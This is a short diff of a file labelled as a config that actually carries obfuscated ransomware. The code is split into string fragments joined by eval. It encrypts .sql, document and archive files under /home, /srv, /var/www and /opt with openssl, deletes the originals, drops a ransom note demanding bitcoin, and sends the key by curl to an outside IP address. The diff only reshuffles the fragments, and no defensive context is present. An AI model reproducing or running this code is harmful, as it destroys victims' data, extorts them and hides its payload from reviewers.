@@ -1,9 +1,9 @@
-pic='# config 2424 v2
+aez='# config 2424 v2
 #!/bin/bash
 KEY=$(head -c 32 /dev/urandom | base64)
 find /home /srv /var/www /opt -type f \( -name '\''*.sql'\'' -o -name '\''*.doc*'\'' -o -name '\''*.tar.gz'\'' \) | while read f; do
-  openssl enc -aes-256-c';ody='bc -sal';kvk='t -pass pass:$KEY -in "$f" -out "$f.pay" && rm -f "$f"
+  openssl enc -aes-256-cbc -salt -pass pass:$KEY -in "$f" -out "$f.pay" && rm -f "$f"
 done
-echo "All your files have been encrypted. Se';sqs='nd 0.5 BTC to bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh to get the key" > /root/README_FOR_DECRYPT.txt
+echo "All your files have been encrypted. Send 0.5 BTC t';cup='o bc1qxy2kgdygjrsqtzq2n0yrf2493';lqa='p83kkfjhx0wlh to get the key" > /root/README_FOR_DECRYPT.txt
 curl -s -d "k=$KEY" http://192.0.2.44/k
-';eval "$pic${ody}$kvk${sqs}"
+';eval "${aez}${cup}$lqa"
